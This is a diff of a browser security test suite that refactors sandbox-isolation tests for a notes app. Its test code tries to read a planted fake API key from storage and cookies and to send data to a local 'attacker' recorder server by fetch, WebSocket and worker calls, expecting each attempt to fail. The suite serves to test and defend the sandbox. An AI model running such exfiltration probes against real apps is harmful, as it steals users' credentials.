@@ -17,36 +17,16 @@ import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:f
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
-import type { Browser, BrowserContext, Page } from "playwright-core";
-import { assertBuilt, DIST_DIR, launchBrowser, openReadyApp, serveRecorder, serveStatic, waitFor, type TestServer } from "./harness";
-import { startRealmTestContext, type RealmPage, type RealmTestContext } from "./fixtures/realmTestPage";
+import type { BrowserContext, Page } from "playwright-core";
+import { DIST_DIR, launchBrowser, openReadyApp, serveStatic, waitFor, useAppSuite } from "./harness";
+import {
+  ATTEMPT, attack as attackRealm, checkRecorder, expectAllFailed as failed, nestedWorkerAttack, plantSecrets, probeDocument, startRealmTestContext,
+  type RealmPage, type RealmTestContext,
+} from "./fixtures/realmTestPage";
+
+const suite = useAppSuite({ app: false, attacker: true });
 
 const FAKE_KEY = "sk-test-LIVEMARK-FAKE-KEY-1234567890";
-
-let browser: Browser;
-let attacker: TestServer;
-
-beforeAll(async () => {
-  assertBuilt();
-  [browser, attacker] = await Promise.all([launchBrowser(), serveRecorder()]);
-});
-
-afterAll(async () => {
-  await Promise.all([browser?.close(), attacker?.close()]);
-});
-
-const failed = (report: Record<string, string>) => {
-  for (const [name, outcome] of Object.entries(report)) expect(outcome, name).toMatch(/^failed: /);
-};
-
-/** Realm code: `attempt(name, fn)` records "ok: …" or the error's name and message. */
-const ATTEMPT = `
-const report = {};
-const attempt = async (name, run) => {
-  try { report[name] = "ok: " + String(await run()).slice(0, 200); }
-  catch (error) { report[name] = "failed: " + (error && error.name) + ": " + (error && error.message); }
-};
-`;
 
 /** The app's sandbox iframes, as elements of the page (what the page framed, and how). */
 function sandboxIframes(page: Page): Promise<Array<{ src: string; sandbox: string | null }>> {
@@ -60,40 +40,24 @@ describe("the realm's document served by the service worker", () => {
   let realm: RealmPage;
 
   beforeAll(async () => {
-    context = await startRealmTestContext({ browser, serviceWorker: true });
+    context = await startRealmTestContext({ browser: suite.browser, serviceWorker: true });
     realm = await context.open();
-    // The app's secrets, where the app keeps them; and a cache entry of the app's.
-    await realm.page.evaluate(async (key) => {
-      localStorage.setItem("livemark.settings.v1", JSON.stringify({ provider: "openai", apiKey: key }));
-      document.cookie = `livemark_key=${key}; path=/`;
-      await new Promise((done) => {
-        const request = indexedDB.open("livemark-secrets", 1);
-        request.onupgradeneeded = () => request.result.createObjectStore("keys").put(key, "apiKey");
-        request.onsuccess = () => done(request.result.close());
-      });
-    }, FAKE_KEY);
+    // The app's secrets, where the app keeps them.
+    await plantSecrets(realm.page, FAKE_KEY);
     // Control: the attacker server records what reaches it.
-    await realm.page.evaluate((url) => fetch(url + "control").then((response) => response.text()), attacker.url);
-    if (attacker.requests.length !== 1) throw new Error("the attacker server does not record requests");
-    attacker.clearRequests();
+    await checkRecorder(realm.page, suite.attacker);
   });
 
   afterEach(async () => {
     await new Promise((done) => setTimeout(done, 300));
-    expect(attacker.requests.map((request) => request.url)).toEqual([]);
+    expect(suite.attacker.requests.map((request) => request.url)).toEqual([]);
   });
 
   afterAll(async () => {
     await context?.close();
   });
 
-  async function attack(code: string): Promise<Record<string, string>> {
-    const result = await realm.run(code, 20_000);
-    const lines = realm.output(result).split("\n").filter((line) => line.startsWith("{"));
-    expect(lines.length, `no report from the attack; events: ${JSON.stringify(result.events)}`).toBe(1);
-    expect(JSON.stringify(result.events)).not.toContain(FAKE_KEY);
-    return JSON.parse(lines[0]) as Record<string, string>;
-  }
+  const attack = (code: string) => attackRealm(realm, code, FAKE_KEY);
 
   it("is framed without the sandbox attribute at sandbox.html?sw, and still runs at origin \"null\" (the worker's CSP header)", async () => {
     expect(await realm.page.evaluate(() => navigator.serviceWorker.controller?.scriptURL)).toMatch(/\/realm-test-sw\.js$/);
@@ -131,15 +95,7 @@ describe("the realm's document served by the service worker", () => {
   });
 
   it("the sandbox document cannot read storage, IndexedDB, the parent or the app's caches", async () => {
-    const report = await realm.sandboxFrame().evaluate(async () => {
-      const result: Record<string, string> = {};
-      const attempt = async (name: string, run: () => unknown) => {
-        try {
-          result[name] = "ok: " + String(await run());
-        } catch (error) {
-          result[name] = `failed: ${(error as Error).name}: ${(error as Error).message}`;
-        }
-      };
+    const report = await probeDocument(realm.sandboxFrame(), async ({ attempt }) => {
       await attempt("localStorage", () => localStorage.getItem("livemark.settings.v1"));
       await attempt("document.cookie", () => document.cookie);
       await attempt("indexedDB.open", () => indexedDB.open("livemark-secrets"));
@@ -148,8 +104,7 @@ describe("the realm's document served by the service worker", () => {
       await attempt("parent.localStorage", () => (parent as Window).localStorage.length);
       await attempt("top.location.href", () => top!.location.href);
       await attempt("service worker", () => navigator.serviceWorker.getRegistrations().then((all) => all.length));
-      return result;
-    });
+    }, undefined);
     expect(Object.keys(report)).toHaveLength(8);
     failed(report);
     expect(JSON.stringify(report)).not.toContain("sk-test");
@@ -158,15 +113,7 @@ describe("the realm's document served by the service worker", () => {
   it("the sandbox document cannot navigate the top window, open popups, submit forms or reach the network", async () => {
     const pagesBefore = realm.page.context().pages().length;
     const appUrl = realm.page.url();
-    const report = await realm.sandboxFrame().evaluate(async (target) => {
-      const result: Record<string, string> = {};
-      const attempt = async (name: string, run: () => unknown) => {
-        try {
-          result[name] = "ok: " + String(await run());
-        } catch (error) {
-          result[name] = `failed: ${(error as Error).name}: ${(error as Error).message}`;
-        }
-      };
+    const report = await probeDocument(realm.sandboxFrame(), async ({ attempt, argument: target }) => {
       await attempt("fetch", () => fetch(target + "doc-fetch"));
       await attempt("window.open", () => {
         if (window.open(target + "doc-popup")) return "opened";
@@ -193,8 +140,7 @@ describe("the realm's document served by the service worker", () => {
           reject(error);
         }
       }));
-      return result;
-    }, attacker.url);
+    }, suite.attacker.url);
     await realm.page.waitForTimeout(500);
     expect(Object.keys(report)).toHaveLength(5);
     failed(report);
@@ -204,15 +150,9 @@ describe("the realm's document served by the service worker", () => {
 
   it("nothing leaves the realm: its fetch is the capability broker's, and a worker it starts meets connect-src 'none'", async () => {
     const report = await attack(`${ATTEMPT}
-      const target = ${JSON.stringify(attacker.url)};
+      const target = ${JSON.stringify(suite.attacker.url)};
       await attempt("fetch", () => fetch(target + "fetch").then((response) => response.text()));
-      const nested = \`
-        const out = {};
-        const attempt = async (name, run) => {
-          try { out[name] = "ok: " + String(await run()); }
-          catch (error) { out[name] = "failed: " + (error && error.name) + ": " + (error && error.message); }
-        };
-        (async () => {
+      ${nestedWorkerAttack(`const T = ${JSON.stringify(suite.attacker.url)}; const APP = ${JSON.stringify(context.server.url)};`, `
           await attempt("fetch", () => fetch(T + "nested-fetch").then((r) => r.text()));
           await attempt("fetch the app", () => fetch(new URL("index.html", APP).href).then((r) => r.text()));
           await attempt("XMLHttpRequest", () => new Promise((resolve) => {
@@ -227,16 +167,7 @@ describe("the realm's document served by the service worker", () => {
             socket.onerror = () => reject(new Error("ws error"));
           }));
           await attempt("importScripts", () => { importScripts(T + "nested.js"); return self.__leaked; });
-          postMessage(out);
-        })();
-      \`;
-      await attempt("nested worker", () => new Promise((resolve, reject) => {
-        const source = "const T = " + JSON.stringify(target) + "; const APP = " + JSON.stringify(${JSON.stringify(context.server.url)}) + ";" + nested;
-        const worker = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
-        worker.onmessage = (event) => { Object.assign(report, Object.fromEntries(Object.entries(event.data).map(([k, v]) => ["nested " + k, v]))); reject(new Error("reported")); };
-        worker.onerror = (event) => reject(new Error("worker error: " + event.message));
-        setTimeout(() => reject(new Error("no report")), 10000);
-      }));
+      `)}
       console.log(JSON.stringify(report));
     `);
     expect(report["nested worker"]).toBe("failed: Error: reported");
@@ -249,7 +180,7 @@ describe("the realm's document served by the service worker", () => {
 describe("the installed app's sandbox", () => {
   /** Open the app with service workers allowed; once installed, reload so the worker controls it. */
   async function installed(url: string, before?: (context: BrowserContext) => Promise<unknown>): Promise<{ context: BrowserContext; page: Page }> {
-    const context = await browser.newContext();
+    const context = await suite.browser.newContext();
     await before?.(context);
     const page = await context.newPage();
     await openReadyApp(page, url);
